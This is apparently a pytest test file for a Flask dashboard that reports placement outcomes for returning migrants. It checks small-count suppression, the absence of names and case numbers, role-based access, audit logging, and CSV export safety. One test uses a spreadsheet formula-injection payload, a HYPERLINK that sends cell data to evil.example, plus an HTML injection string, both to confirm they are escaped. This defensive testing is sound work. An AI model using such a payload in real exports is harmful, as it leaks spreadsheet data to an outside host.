"""The managers' outcomes page and CSV downloads: suppression, no personal data, safe CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from reintegrate.models import AuditEntry, Returnee, User
from reintegrate.timeutil import local_today
from reintegrate.web.dashboard import spreadsheet_safe
from tests.builders import PASSWORD, make_user
from tests.conftest import log_in
from tests.outcome_builders import Contact, Owners, add_placement, make_owners

RECENT = local_today() - timedelta(days=400)
EXPORTS = ("outcomes", "channels", "countries", "coverage")


@pytest.fixture
def owners(db_session: Session) -> Owners:
    return make_owners(db_session)


@pytest.fixture
def manager(client: FlaskClient, db_session: Session) -> User:
    user = make_user(db_session, "manager")
    log_in(client, user.email, PASSWORD)
    return user


def _populate(session: Session, owners: Owners) -> None:
    """Province 01: 3 placements (one re-migrated to Laos); 02: 6; 17: 11."""
    for province, n in (("01", 3), ("02", 6), ("17", 11)):
        for i in range(n):
            gone = i == 0 or (province == "17" and i < 6)
            contacts = [
                Contact(1, due_day=30),
                Contact(
                    3,
                    outcome="remigrated" if gone else "employed_same",
                    channel="irregular",
                    country="LA" if province == "01" else "TH",
                ),
            ]
            add_placement(
                session,
                owners,
                start=RECENT,
                province=province,
                sex="female" if i % 2 else "male",
                contacts=contacts,
            )


def _csv(client: FlaskClient, name: str, query: str = "") -> list[list[str]]:
    response = client.get(f"/dashboard/export/{name}.csv{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_manager_sees_the_page_with_tables_and_charts(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    response = client.get("/dashboard?group_by=province")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    for text in (
        "Outcomes of placements",
        "Battambang",
        "Re-migration",
        "Follow-up coverage by province",
        "Thailand",
        "<svg",
        "Staying at home",
        "Staying in work",
        "/dashboard/export/outcomes.csv",
        "/dashboard/export/coverage.csv",
    ):
        assert text in html, text
    assert "style=" not in html
    assert "<script" not in html.split("</header>", 1)[1]
    assert "css/dashboard." in html and ".css" in html  # fingerprinted name


def test_home_sends_managers_to_the_dashboard(client: FlaskClient, manager: User) -> None:
    response = client.get("/")
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/dashboard")


def test_a_group_of_three_never_shows_its_count(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    html = client.get("/dashboard?group_by=province").get_data(as_text=True)
    row = re.search(r"<th scope=\"row\">Banteay Meanchey</th>(.*?)</tr>", html, re.S)
    assert row is not None
    assert re.findall(r">\s*(\d+)", row.group(1)) == []
    second = re.search(r"<th scope=\"row\">Battambang</th><td[^>]*>([^<]*)<", html)
    assert second is not None and second.group(1) == "*"
    assert '<th scope="row">Laos</th><td class="num hidden-cell">*</td>' in html
    # The per-province curves for the small and the secondary group are not drawn.
    curves = re.search(r'<svg[^>]*aria-labelledby="home-groups-title.*?</svg>', html, re.S)
    assert curves is not None
    assert "Siemreap</text>" in curves.group(0)
    assert "Banteay Meanchey" not in curves.group(0)
    assert "Battambang" not in curves.group(0)

    rows = _csv(client, "outcomes", "?group_by=province")
    by_label = {r[0]: r[1:] for r in rows[1:]}
    assert set(by_label["Banteay Meanchey"]) == {"*"}
    assert by_label["Battambang"][0] == "*"
    assert by_label["Siemreap"][0] == "11"
    assert by_label["Total"][0] == "20"
    countries = {r[0]: r[1] for r in _csv(client, "countries")[1:]}
    assert countries == {"Laos": "*", "Thailand": "*", "Total": "8"}


def test_no_names_or_case_numbers_anywhere(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    returnee = db_session.get(Returnee, owners.returnee_id)
    assert returnee is not None
    secrets = (returnee.case_number, returnee.given_name, returnee.family_name)
    outputs = [
        client.get(f"/dashboard?group_by={g}").get_data(as_text=True)
        for g in ("province", "programme", "sector", "sex")
    ]
    outputs += [
        client.get(f"/dashboard/export/{name}.csv?group_by=sex").get_data(as_text=True)
        for name in EXPORTS
    ]
    for output in outputs:
        for secret in secrets:
            assert secret not in output


def test_programme_names_are_escaped_in_html_and_csv(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    for _ in range(6):
        add_placement(db_session, owners, start=RECENT, kind="incentive", programme=evil)
    for _ in range(6):
        add_placement(db_session, owners, start=RECENT, kind="incentive", programme="<b>Grant</b>")
    rows = _csv(client, "outcomes", "?group_by=programme")
    labels = [r[0] for r in rows]
    assert "'" + evil in labels
    assert evil not in labels
    html = client.get("/dashboard?group_by=programme").get_data(as_text=True)
    assert "<b>Grant</b>" not in html
    assert "&lt;b&gt;Grant&lt;/b&gt;" in html


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+855", "'+855"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Battambang", "Battambang"),
        ("*", "*"),
    ],
)
def test_spreadsheet_safe(value: str, safe: str) -> None:
    assert spreadsheet_safe(value) == safe


def test_each_export_is_an_audited_attachment(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    for name in EXPORTS:
        rows = _csv(client, name, "?group_by=sex")
        assert rows[-1][0] == "Total"
    actions = db_session.scalars(
        select(AuditEntry.detail).where(
            AuditEntry.action == "export", AuditEntry.user_id == manager.id
        )
    ).all()
    assert sorted(detail["table"] for detail in actions) == sorted(EXPORTS)


def test_coverage_csv_counts_follow_ups(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    rows = _csv(client, "coverage")
    assert rows[0] == [
        "Province",
        "Follow-ups due",
        "Done on time",
        "Done late",
        "Missed",
        "Open, overdue",
        "Open, not yet overdue",
    ]
    siem_reap = next(r for r in rows if r[0] == "Siemreap")
    assert siem_reap == ["Siemreap", "22", "22", "0", "0", "0", "0"]


@pytest.mark.parametrize("role", ["officer", "employer", "admin"])
def test_other_roles_get_403(client: FlaskClient, db_session: Session, role: str) -> None:
    user = make_user(db_session, role)
    log_in(client, user.email, PASSWORD)
    assert client.get("/dashboard").status_code == 403
    assert client.get("/dashboard/export/outcomes.csv").status_code == 403


def test_anonymous_is_sent_to_log_in(client: FlaskClient) -> None:
    response = client.get("/dashboard")
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_bad_choices_are_422_with_the_defaults_shown(
    client: FlaskClient, db_session: Session, manager: User
) -> None:
    response = client.get("/dashboard?from=2026-05-01&to=2026-01-01")
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "The start of the period must not be after its end." in html
    assert '<option value="province" selected>' in html
    response = client.get("/dashboard?group_by=name")
    assert response.status_code == 422
    assert "Unknown value." in response.get_data(as_text=True)
    assert client.get("/dashboard/export/outcomes.csv?from=nope").status_code == 422
    assert client.get("/dashboard/export/returnees.csv").status_code == 404
